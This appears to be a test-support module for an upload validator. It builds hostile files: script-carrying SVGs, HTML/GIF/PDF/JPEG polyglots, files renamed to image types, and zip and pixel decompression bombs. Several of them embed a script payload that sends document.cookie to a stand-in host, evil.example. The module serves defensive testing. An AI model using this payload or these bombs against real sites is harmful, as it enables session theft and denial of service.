/**
 * Hostile upload files: script-carrying markup, polyglots, decompression and zip bombs, truncated
 * and empty files. Built in memory from real encoders (sharp, zlib) so nothing is a fabricated
 * fixture. Test support only.
 */
import { zipSync } from 'fflate';
import sharp from 'sharp';
import { buildZip } from './zip.js';
import { hugePngHeader } from './imageAnalysis.testkit.js';

export interface AttackFile {
  name: string;
  filename: string;
  type: string;
  bytes: Buffer;
  /** Active content that must never be accepted anywhere (HTML, SVG, GIF-with-script). */
  markup: boolean;
}

const SCRIPT = '<script>fetch("https://evil.example/?c="+document.cookie)</script>';

/** A real 32×24 JPEG. */
export async function realJpeg(): Promise<Buffer> {
  return sharp({ create: { width: 32, height: 24, channels: 3, background: '#6b4f2a' } })
    .jpeg({ quality: 80 })
    .toBuffer();
}

/** `jpeg` with its start-of-frame rewritten to claim width × height pixels. */
export function claimJpegSize(jpeg: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(jpeg);
  let i = 2;
  while (i + 9 < out.length) {
    const marker = out[i + 1]!;
    if (marker >= 0xc0 && marker <= 0xc3) {
      out.writeUInt16BE(height, i + 5);
      out.writeUInt16BE(width, i + 7);
      return out;
    }
    i += 2 + out.readUInt16BE(i + 2);
  }
  throw new Error('no start-of-frame in the JPEG');
}

export async function attackFiles(): Promise<AttackFile[]> {
  const jpeg = await realJpeg();
  const zip = Buffer.from(zipSync({ 'index.html': Buffer.from(`<html>${SCRIPT}</html>`) }));
  const svg = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">${SCRIPT}</svg>`);
  const html = Buffer.from(`<!doctype html><html><body>${SCRIPT}</body></html>`);
  return [
    { name: 'SVG with a script', filename: 'leaf.svg', type: 'image/svg+xml', bytes: svg, markup: true },
    { name: 'SVG with a script, renamed .png', filename: 'leaf.png', type: 'image/png', bytes: svg, markup: true },
    { name: 'HTML renamed .jpg', filename: 'photo.jpg', type: 'image/jpeg', bytes: html, markup: true },
    { name: 'GIF/HTML polyglot', filename: 'photo.gif', type: 'image/gif', bytes: Buffer.from(`GIF89a/*${SCRIPT}*/=1;`), markup: true },
    {
      name: 'JPEG with a trailing ZIP (polyglot)',
      filename: 'photo.jpg',
      type: 'image/jpeg',
      bytes: Buffer.concat([jpeg, zip]),
      markup: false,
    },
    {
      name: 'JPEG with trailing HTML (polyglot)',
      filename: 'photo.jpg',
      type: 'image/jpeg',
      bytes: Buffer.concat([jpeg, html]),
      markup: false,
    },
    {
      name: 'PDF carrying HTML (polyglot)',
      filename: 'report.pdf',
      type: 'application/pdf',
      bytes: Buffer.from(`%PDF-1.4\n${html.toString()}\n%%EOF\n`),
      markup: false,
    },
    {
      name: 'truncated JPEG',
      filename: 'cut.jpg',
      type: 'image/jpeg',
      bytes: jpeg.subarray(0, Math.floor(jpeg.length / 2)),
      markup: false,
    },
    {
      name: 'PNG claiming 20,000×20,000 pixels',
      filename: 'bomb.png',
      type: 'image/png',
      bytes: hugePngHeader(20_000, 20_000),
      markup: false,
    },
    {
      name: 'JPEG claiming 20,000×20,000 pixels',
      filename: 'bomb.jpg',
      type: 'image/jpeg',
      bytes: claimJpegSize(jpeg, 20_000, 20_000),
      markup: false,
    },
    { name: 'empty file', filename: 'empty.jpg', type: 'image/jpeg', bytes: Buffer.alloc(0), markup: false },
  ];
}

/** A file one byte over `cap` that starts like a real JPEG. */
export async function overCap(cap: number): Promise<AttackFile> {
  const jpeg = await realJpeg();
  const bytes = Buffer.alloc(cap + 1);
  jpeg.copy(bytes);
  return { name: 'one byte over the size cap', filename: 'big.jpg', type: 'image/jpeg', bytes, markup: false };
}

/**
 * Zip bombs for the training upload: one whose directory declares far more than the unpack limit,
 * and one whose headers claim 1 kB per entry while each inflates to 11 MB of zeros.
 */
export function zipBombs(): Array<{ name: string; bytes: Buffer }> {
  const zeros = Buffer.alloc(11 * 1024 * 1024);
  const kilobyte = Buffer.alloc(1024);
  const folder = (cls: string) => Array.from({ length: 5 }, (_, i) => ({ name: `${cls}/${i}.jpg`, data: zeros, declaredSize: 1000 }));
  return [
    {
      name: 'declares 12 × 100 MB',
      bytes: buildZip(
        Array.from({ length: 12 }, (_, i) => ({
          name: `${i % 2 ? 'Good' : 'Broken'}/${i}.jpg`,
          data: kilobyte,
          declaredSize: 100 * 1024 * 1024,
        })),
      ),
    },
    { name: 'lies about its size (11 MB of zeros per 1 kB entry)', bytes: buildZip([...folder('Good'), ...folder('Broken')]) },
  ];
}
